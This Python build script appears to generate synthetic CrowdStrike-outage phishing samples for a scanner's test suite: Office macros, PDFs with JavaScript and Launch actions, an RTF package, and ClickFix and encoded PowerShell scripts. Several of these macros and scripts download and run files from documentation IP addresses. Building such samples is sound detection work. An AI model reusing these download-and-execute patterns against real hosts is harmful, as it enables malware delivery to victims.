"""Build the Office, PDF and script samples (issue 4: documents, PDF, scripts and pages).

    python samples/build_docs.py           # write/refresh the samples
    python samples/build_docs.py --check   # exit 1 if a committed sample differs from a rebuild

Made with real libraries, not hand-faked bytes:
- Macro documents: pyOpenVBA (pure Python, MIT) writes a real VBA project (MS-OVBA compressed
  module streams, dir stream, PROJECT stream) into Office-authored blank templates it ships, so
  olevba and Office read them.  Building a vbaProject.bin without Office is otherwise only possible
  by hand; LibreOffice headless writes StarBasic, not VBA-in-OLE, and is a ~300 MB install.
- The .doc is the same VBA project's compound file (pyOpenVBA's CFB writer) with a WordDocument
  stream stub added: an OLE file olevba reads like a Word 97 document, not a document Word opens.
- .docx/.xlsx: plain ZIP + XML (that is what OOXML is), the .xlsx from pyOpenVBA's Excel template.
- PDFs: fpdf2 lays out the pages, text and link annotations; pypdf adds JavaScript, Launch actions
  and attachments.  Build-only dependencies: `pip install pyopenvba fpdf2` (pypdf is a runtime one).
- RTF: an OLE1 "Package" object written by `ole1_package` (the layout oletools' rtfobj reads, which
  Word writes for an embedded file) as hex in `\\objdata`: a few struct fields, no library writes them.

Everything is harmless: macros and scripts only name RFC 5737 documentation IPs or `.example`
hosts, payloads echo a line, and no file here downloads or runs anything when opened.
Deterministic: fixed dates, fixed PDF file IDs, ZIP timestamps from the templates.
"""

from __future__ import annotations

import base64
import io
import struct
import sys
import tempfile
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

from sampleio import write_samples

ROOT = Path(__file__).resolve().parent
NOTE = "scamscan synthetic sample - harmless, not malware"
DATE = datetime(2024, 7, 19, 4, 9, tzinfo=UTC)
ZIP_DATE = (2024, 7, 19, 4, 9, 0)

DAOLPU_MACRO = (ROOT / "lures" / "daolpu_recovery_macro.bas").read_text()

FALCON_XLSM_MACRO = f"""Attribute VB_Name = "Module1"
' CrowdStrike Falcon sensor update ({NOTE})
Private Declare PtrSafe Function URLDownloadToFileA Lib "urlmon" (ByVal pCaller As LongPtr, _
    ByVal szURL As String, ByVal szFileName As String, ByVal dwReserved As Long, ByVal lpfnCB As LongPtr) As Long

Sub Workbook_Open()
    Dim target As String
    target = Environ("TEMP") & "\\FalconSensorUpdate.exe"
    URLDownloadToFileA 0, "http://198.51.100.14/falcon/FalconSensorUpdate.exe", target, 0, 0
    CreateObject("WScript.Shell").Run "powershell -NoProfile -Command Start-Process '" & target & "'", 0
End Sub
"""

NOTICE_DOC_MACRO = f"""Attribute VB_Name = "UpdateCheck"
' Windows update notice ({NOTE})
Sub Document_Open()
    Dim cmd As String
    cmd = "cmd.exe /c certutil -urlcache -split -f http://192.0.2.77/kb/KB5040442.txt %TEMP%\\kb.txt"
    Shell cmd, vbHide
End Sub
"""

BENIGN_MACRO = f"""Attribute VB_Name = "Formatting"
' Applies the house style; run from the Macros menu ({NOTE})
Sub ApplyHouseStyle()
    ActiveDocument.Paragraphs.SpaceAfter = 6
    ActiveDocument.Content.Font.Name = "Calibri"
End Sub
"""


# ------------------------------------------------------------------ Office
def _vba_file(kind: str, module: str, source: str) -> bytes:
    from pyopenvba import ExcelFile, WordFile

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / ("s.xlsm" if kind == "excel" else "s.docm")
        doc = (ExcelFile if kind == "excel" else WordFile).create_new(path)
        if module in doc.module_names():
            doc.set_module(module, source)
        else:
            doc.vba_project().add_module(module, source)
        doc.save(path)
        return path.read_bytes()


def ole_doc(module: str, source: str) -> bytes:
    from pyopenvba.cfb import CFB

    project = zipfile.ZipFile(io.BytesIO(_vba_file("word", module, source))).read("word/vbaProject.bin")
    cfb = CFB.from_bytes(project)
    fib = b"\xec\xa5\xc1\x00" + bytes(508)  # Word FIB magic, rest zero: a stub, see the module docstring
    cfb.add_stream_at((), "WordDocument", fib)
    cfb.add_stream_at((), "1Table", bytes(512))
    return bytes(cfb.to_bytes())


def _zip(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, ZIP_DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, data)
    return buf.getvalue()


_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PR = "http://schemas.openxmlformats.org/package/2006/relationships"


def docx(paragraphs: list[str], template_target: str | None) -> bytes:
    body = "".join(f"<w:p><w:r><w:t xml:space=\"preserve\">{p}</w:t></w:r></w:p>" for p in paragraphs)
    members = [
        ("[Content_Types].xml", (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            b'<Default Extension="xml" ContentType="application/xml"/>'
            b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            b'wordprocessingml.document.main+xml"/>'
            b'<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            b'wordprocessingml.settings+xml"/></Types>')),
        ("_rels/.rels", (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{_PR}">'
            f'<Relationship Id="rId1" Type="{_R}/officeDocument" Target="word/document.xml"/></Relationships>'
        ).encode()),
        ("word/document.xml", (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="{_W}">'
            f"<w:body>{body}</w:body></w:document>").encode()),
        ("word/_rels/document.xml.rels", (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{_PR}">'
            f'<Relationship Id="rId1" Type="{_R}/settings" Target="settings.xml"/></Relationships>').encode()),
        ("word/settings.xml", (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:settings xmlns:w="{_W}" '
            f'xmlns:r="{_R}">' + ('<w:attachedTemplate r:id="rId1"/>' if template_target else "")
            + "</w:settings>").encode()),
    ]
    if template_target:
        members.append(("word/_rels/settings.xml.rels", (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{_PR}">'
            f'<Relationship Id="rId1" Type="{_R}/attachedTemplate" Target="{template_target}" '
            'TargetMode="External"/></Relationships>').encode()))
    return _zip(members)


def blank_xlsx() -> bytes:
    from pyopenvba._templates import EMPTY_XLSX_BYTES  # Excel-authored blank workbook shipped by pyOpenVBA

    return bytes(EMPTY_XLSX_BYTES)


# ------------------------------------------------------------------ PDF
def _fpdf(lines: list[str], links: list[tuple[str, str]] = (), attach: tuple[str, bytes] | None = None) -> bytes:  # type: ignore[assignment]
    from fpdf import FPDF

    pdf = FPDF()
    pdf.set_creation_date(DATE)
    pdf.set_title("scamscan sample")
    pdf.add_page()
    pdf.set_font("Helvetica", size=12)
    for line in lines:
        pdf.multi_cell(0, 7, line, new_x="LMARGIN", new_y="NEXT")
    for text, url in links:
        pdf.set_text_color(0, 0, 200)
        pdf.cell(0, 8, text, link=url, new_x="LMARGIN", new_y="NEXT")
    if attach:
        name, data = attach
        pdf.embed_file(basename=name, bytes=data, desc=NOTE, modification_date=DATE, creation_date=DATE,
                       compress=True)
    return bytes(pdf.output())


def _pypdf(base: bytes, edit: Callable[[object], None]) -> bytes:
    from pypdf import PdfWriter
    from pypdf.generic import ArrayObject, ByteStringObject

    writer = PdfWriter(clone_from=io.BytesIO(base))
    edit(writer)
    ident = ByteStringObject(b"scamscan-sample!")
    writer._ID = ArrayObject([ident, ident])  # fixed file ID: deterministic output
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _open_action(action: dict[str, object]) -> Callable[[object], None]:
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    def edit(writer: object) -> None:
        obj = DictionaryObject()
        for key, value in action.items():
            if isinstance(value, dict):
                sub = DictionaryObject({NameObject(k): TextStringObject(v) for k, v in value.items()})
                obj[NameObject(key)] = sub
            elif str(value).startswith("/"):
                obj[NameObject(key)] = NameObject(str(value))
            else:
                obj[NameObject(key)] = TextStringObject(str(value))
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(obj)  # type: ignore[attr-defined]
    return edit


HANDALA_TEXT = [
    "CrowdStrike Falcon - Update Instructions",
    "Following the Windows outage of 19 July 2024, CrowdStrike has released an update that restores "
    "affected hosts. All customers must apply it immediately.",
    "1. Download the update tool Crowdstrike.zip from the link below.",
    "2. Extract the archive and run Crowdstrike.exe as administrator.",
    "3. Wait until the update completes and restart the computer.",
    "Support: updates@crowdstrike[.]com[.]vc",
    f"({NOTE})",
]
LEGIT_PDF_TEXT = [
    "Falcon sensor: remediation after the 19 July 2024 channel file update",
    "Follow only the guidance published on the official support portal or by your IT department.",
    "Boot into Safe Mode, delete C-00000291*.sys from the CrowdStrike drivers folder, reboot.",
    f"({NOTE})",
]


def pdfs() -> dict[str, bytes]:
    out: dict[str, bytes] = {}
    out["lures/docs/crowdstrike_update_instructions.pdf"] = _fpdf(
        HANDALA_TEXT, [("Download Crowdstrike.zip", "http://192.0.2.44/share/Crowdstrike.zip")])
    base = _fpdf(["Invoice 2024-0719", "Open in Adobe Reader to view the secured invoice.", f"({NOTE})"])

    out["lures/docs/invoice_javascript.pdf"] = _pypdf(base, _open_action({
        "/S": "/JavaScript", "/JS": f"app.alert('{NOTE}');"}))
    out["lures/docs/secure_document_launch.pdf"] = _pypdf(base, _open_action({
        "/S": "/Launch", "/Win": {"/F": "cmd.exe", "/P": f"/c echo {NOTE}"}}))
    fix = (ROOT / "lures" / "crowdstrike_fix.bat").read_bytes()
    out["lures/docs/falcon_fix_attachment.pdf"] = _fpdf(
        ["CrowdStrike Falcon hotfix", "Open the attached CrowdStrike_Hotfix.bat to repair your computer.",
         f"({NOTE})"], attach=("CrowdStrike_Hotfix.bat", fix))
    out["clean/docs/remediation_links.pdf"] = _fpdf(LEGIT_PDF_TEXT, [
        ("CrowdStrike support portal", "https://supportportal.crowdstrike.com/"),
        ("Microsoft recovery guidance", "https://learn.microsoft.com/en-us/troubleshoot/windows-client/"
         "performance/stop-code-error-troubleshooting")])
    invoice_xml = b'<?xml version="1.0"?><Invoice><ID>2024-0719</ID><Total>120.00</Total></Invoice>\n'
    out["clean/docs/invoice_with_xml.pdf"] = _fpdf(
        ["Invoice 2024-0719", "The machine-readable invoice is attached (factur-x.xml).", f"({NOTE})"],
        attach=("factur-x.xml", invoice_xml))
    # bad input
    good = out["clean/docs/remediation_links.pdf"]
    out["bad/docs/corrupt.pdf"] = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R" + \
        bytes(range(256)) * 4 + b"\nendobj\ntrailer\n<< /Root 1 0 R /Size 999999999 >>\n%%EOF\n"
    out["bad/docs/truncated.pdf"] = good[: len(good) // 3]
    depth = 20000
    out["bad/docs/deep_nesting.pdf"] = (
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /Deep " + b"[" * depth + b"]" * depth
        + b" >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
        + b"trailer\n<< /Root 1 0 R /Size 3 >>\n%%EOF\n")
    return out


# ------------------------------------------------------------------ scripts
def ps_enc(command: str) -> str:
    return base64.b64encode(command.encode("utf-16-le")).decode()


def scripts() -> dict[str, bytes]:
    out: dict[str, bytes] = {}
    cradle = "iwr http://203.0.113.50/fix/verify.ps1 | iex  # human verification fix"
    out["lures/scripts/clickfix_encoded.html"] = f"""<!DOCTYPE html>
<html><head><title>Verify you are human</title></head>
<!-- {NOTE} -->
<body>
<h1>I'm not a robot - verification step</h1>
<p>To complete the verification: 1. Press Windows Key + R  2. Press Ctrl + V  3. Press Enter</p>
<button onclick="verify()">Verify</button>
<script>
function verify() {{
  navigator.clipboard.writeText("powershell -w h -enc {ps_enc(cradle)}");
}}
</script>
</body></html>
""".encode()
    download = ("$u = 'http://198.51.100.77/update/KB5040442.exe'\r\n"
                "Start-BitsTransfer -Source $u -Destination \"$env:TEMP\\KB5040442.exe\"\r\n"
                "Start-Process \"$env:TEMP\\KB5040442.exe\"  # windows update fix\r\n")
    out["lures/scripts/windows_update_fix_encoded.ps1"] = (
        f"# Windows Update repair ({NOTE})\r\n"
        f"powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {ps_enc(download)}\r\n").encode()
    inner = base64.b64encode(f"Write-Output '{NOTE}: second layer'".encode("utf-16-le")).decode()
    layered = (f"$s = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{inner}'))\r\n"
               "Invoke-Expression $s\r\n")
    out["lures/scripts/teams_repair_layered.cmd"] = (
        f"@echo off\r\nrem Teams repair ({NOTE})\r\npowershell -ep bypass -e {ps_enc(layered)}\r\n").encode()
    return out


def office() -> dict[str, bytes]:
    out: dict[str, bytes] = {}
    docm = _vba_file("word", "NewMacros", DAOLPU_MACRO)
    out["lures/docs/New_Recovery_Tool_to_help_with_CrowdStrike_issue_impacting_Windows.docm"] = docm
    out["lures/docs/falcon_sensor_update.xlsm"] = _vba_file("excel", "Module1", FALCON_XLSM_MACRO)
    out["lures/docs/windows_update_notice.doc"] = ole_doc("UpdateCheck", NOTICE_DOC_MACRO)
    out["lures/docs/crowdstrike_recovery_template.docx"] = docx(
        ["CrowdStrike recovery instructions", "Enable editing to load the recovery steps.", f"({NOTE})"],
        "http://198.51.100.45/templates/recovery.dotm")
    out["clean/docs/quarterly_report.docx"] = docx(
        ["Quarterly report", "Revenue grew in all regions.", f"({NOTE})"],
        "file:///C:\\Users\\analyst\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm")
    out["clean/docs/house_style.docm"] = _vba_file("word", "Formatting", BENIGN_MACRO)
    out["clean/docs/budget.xlsx"] = blank_xlsx()
    out["bad/docs/truncated.docm"] = docm[: len(docm) * 2 // 3]
    return out


# ------------------------------------------------------------------ RTF
def ole1_package(label: str, data: bytes, source: str = "") -> bytes:
    """An OLE1 embedded "Package" object (MS-OLEDS 2.2), as Word writes into `\\objdata`: header, class
    name, then the Packager's native data (version 2, label, source path, 0x00030000 = embedded file,
    temp path, the file, then the three paths again in UTF-16) as oletools' OleNativeStream reads it."""
    def c(text: str) -> bytes:
        return text.encode("cp1252") + b"\0"

    def w(text: str) -> bytes:
        return struct.pack("<I", len(text)) + text.encode("utf-16-le")

    source = source or f"C:\\Users\\Public\\{label}"
    temp = f"C:\\Users\\Public\\AppData\\Local\\Temp\\{label}"
    native = (struct.pack("<H", 2) + c(label) + c(source) + struct.pack("<II", 0x00030000, len(c(temp)))
              + c(temp) + struct.pack("<I", len(data)) + data + w(temp) + w(label) + w(source))
    return ole1_object("Package", native)


def ole1_object(class_name: str, native: bytes) -> bytes:
    """An OLE1 embedded object: version 0x0501, format 2 (embedded), class name, empty topic and item."""
    name = class_name.encode("ascii") + b"\0"
    return struct.pack("<III", 0x00000501, 2, len(name)) + name + struct.pack("<III", 0, 0, len(native)) + native


def rtf_doc(paragraphs: list[str], objdata: bytes, caption: str) -> bytes:
    """An RTF document: the paragraphs, then one embedded object (hex in `\\objdata`, 128 digits a line)."""
    hexdata = objdata.hex()
    lines = "\n".join(hexdata[i:i + 128] for i in range(0, len(hexdata), 128))
    body = "".join(f"\\pard {p}\\par\n" for p in paragraphs)
    return ("{\\rtf1\\ansi\\ansicpg1252\\deff0{\\fonttbl{\\f0\\fswiss Calibri;}}\\f0\\fs22\n" + body
            + "\\pard {\\object\\objemb{\\*\\objclass Package}\\objw1\\objh1{\\*\\objdata\n" + lines
            + "\n}{\\result {" + caption + "}}}\\par\n}\n").encode("cp1252")


def rtfs() -> dict[str, bytes]:
    fix = (ROOT / "lures" / "crowdstrike_fix.bat").read_bytes()
    agenda = (f"Team meeting 2024-07-22\r\n1. Status of the migration\r\n2. Holiday rota\r\n"
              f"3. Any other business\r\n({NOTE})\r\n").encode()
    return {
        "lures/docs/falcon_remediation.rtf": rtf_doc(
            ["\\b CrowdStrike Falcon - remediation of the 19 July 2024 outage\\b0",
             "CrowdStrike has released a hotfix that repairs affected Windows hosts automatically.",
             "Double-click the Falcon_Hotfix package below and confirm the security prompt with Run.",
             f"({NOTE})"], ole1_package("Falcon_Hotfix.bat", fix), "Falcon_Hotfix.bat"),
        "clean/docs/meeting_notes.rtf": rtf_doc(
            ["\\b Meeting notes\\b0", "The agenda for Monday is attached below.", f"({NOTE})"],
            ole1_package("agenda.txt", agenda), "agenda.txt"),
    }


def build() -> dict[str, bytes]:
    return {**office(), **pdfs(), **scripts(), **rtfs()}


def main() -> int:
    return write_samples(build(), ROOT, "--check" in sys.argv[1:])


if __name__ == "__main__":
    sys.exit(main())
